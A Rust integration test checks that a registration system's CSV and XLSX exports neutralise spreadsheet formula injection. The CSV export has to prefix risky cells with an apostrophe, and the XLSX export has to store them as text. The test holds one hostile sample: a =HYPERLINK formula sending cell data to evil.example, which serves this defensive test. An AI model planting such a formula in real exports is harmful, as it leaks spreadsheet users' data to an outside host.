//! The registration exports as an organiser's spreadsheet reads them: what a visitor
//! typed never becomes a formula (CSV injection), and in XLSX positions are numbers
//! and moments are dates. The XLSX file is read with SheetJS (`e2e/xlsx_cells.mjs`).

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::common::editor::{organiser_with_token, published_cafe};
use crate::common::{Backend, in_ci, spawn_app};

/// What visitors type to get a formula into the organiser's spreadsheet.
const HYPERLINK: &str = r#"=HYPERLINK("https://evil.example/?"&D2,"klik")"#;
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

async fn register(app: &crate::common::TestApp, slug: &str, name: &str, email: &str, org: &str) {
    let body = json!({"name": name, "email": email, "organisation": org,
        "role": "anders", "role_other": "+31 buurtwerker", "privacy_consent": true});
    let response = app
        .client
        .post(app.url(&format!("/api/v1/activities/{slug}/registrations")))
        .json(&body)
        .send()
        .await
        .unwrap();
    assert!(response.status().is_success(), "registration of {email}");
}

/// The CSV's cells, without the byte-order mark, split on semicolons as Excel does.
fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "byte-order mark");
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(&bytes[3..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn column(rows: &[Vec<String>], title: &str) -> usize {
    rows[0]
        .iter()
        .position(|h| h == title)
        .unwrap_or_else(|| panic!("no column {title}"))
}

async fn exports_never_carry_a_formula_and_keep_numbers_and_dates(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let organiser = organiser_with_token(&app).await;
    let (public_id, slug) = published_cafe(&app, &organiser.client).await;
    register(&app, &slug, "@Fatima", "f@example.org", HYPERLINK).await;
    register(&app, &slug, "Joost", "j@example.org", "-1+2").await;
    register(&app, &slug, "Zoë", "z@example.org", "Wijkteam = Oost").await;

    let back_office = format!("/beheer/activiteiten/{public_id}/aanmeldingen/export.csv");
    let api = format!("/api/v1/organiser/activities/{public_id}/registrations.csv");
    for (path, bearer) in [(back_office, false), (api, true)] {
        let request = organiser.client.get(app.url(&path));
        let request = if bearer {
            request.bearer_auth(organiser.token.as_deref().unwrap())
        } else {
            request
        };
        let response = request.send().await.unwrap();
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        let rows = cells(&response.bytes().await.unwrap());
        assert_eq!(rows.len(), 4, "a header and three people ({path})");
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(FORMULA_STARTS),
                "{path}: a cell starts like a formula: {cell:?}"
            );
        }
        let (name, org) = (column(&rows, "Naam"), column(&rows, "Organisatie"));
        let fatima = rows.iter().find(|r| r[name] == "'@Fatima").expect("Fatima");
        assert_eq!(fatima[org], format!("'{HYPERLINK}"), "kept, but as text");
        let zoe = rows.iter().find(|r| r[name] == "Zoë").unwrap();
        assert_eq!(zoe[org], "Wijkteam = Oost", "plain text is left alone");
        let position = column(&rows, "Wachtlijstplaats");
        assert_eq!(zoe[position], "1", "the third waits in place 1");
        let registered = column(&rows, "Aangemeld op");
        assert!(
            zoe[registered].len() == 16 && zoe[registered].as_bytes()[2] == b'-',
            "dd-mm-yyyy hh:mm: {}",
            zoe[registered]
        );
    }

    let response = organiser
        .client
        .get(app.url(&format!(
            "/beheer/activiteiten/{public_id}/aanmeldingen/export.xlsx"
        )))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let bytes = response.bytes().await.unwrap();
    let Some(sheet) = read_xlsx(&bytes) else {
        return;
    };
    let rows = sheet["rows"].as_array().unwrap();
    let header: Vec<&str> = rows[0]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["v"].as_str().unwrap())
        .collect();
    let at = |title: &str| header.iter().position(|h| *h == title).unwrap();
    let person = |name: &str| {
        rows.iter()
            .find(|r| r[at("Naam")]["v"] == name)
            .unwrap_or_else(|| panic!("{name} in the workbook"))
    };
    for row in rows {
        for cell in row.as_array().unwrap().iter().filter(|c| !c.is_null()) {
            assert_eq!(cell["formula"], false, "no formula in any cell: {cell}");
        }
    }
    let fatima = person("@Fatima");
    assert_eq!(fatima[at("Organisatie")]["t"], "s");
    assert_eq!(
        fatima[at("Organisatie")]["v"],
        HYPERLINK,
        "the text as typed"
    );
    let zoe = person("Zoë");
    assert_eq!(zoe[at("Wachtlijstplaats")]["t"], "n", "a number");
    assert_eq!(zoe[at("Wachtlijstplaats")]["v"], 1.0);
    let registered = &zoe[at("Aangemeld op")];
    assert_eq!(
        registered["t"], "n",
        "a date is a number with a date format"
    );
    assert_eq!(registered["z"], "dd-mm-yyyy hh:mm");
    // Excel's day count: 2026 and later are past day 46,000.
    assert!(registered["v"].as_f64().unwrap() > 46_000.0, "{registered}");
    assert!(
        fatima[at("Wachtlijstplaats")].is_null(),
        "no position, no cell"
    );
}

/// The workbook's first sheet as SheetJS reads it, or `None` (skipped) without node.
pub(crate) fn read_xlsx(bytes: &[u8]) -> Option<Value> {
    let root = env!("CARGO_MANIFEST_DIR");
    let missing = !std::path::Path::new(root)
        .join("node_modules/xlsx")
        .exists();
    if missing {
        assert!(!in_ci(), "node_modules/xlsx is missing (npm ci)");
        eprintln!("SKIPPED: node_modules/xlsx is missing (npm ci)");
        return None;
    }
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), bytes).unwrap();
    let output = std::process::Command::new("node")
        .arg(format!("{root}/e2e/xlsx_cells.mjs"))
        .arg(file.path())
        .output()
        .expect("node runs");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    Some(serde_json::from_slice(&output.stdout).unwrap())
}

both_databases!(exports_never_carry_a_formula_and_keep_numbers_and_dates);
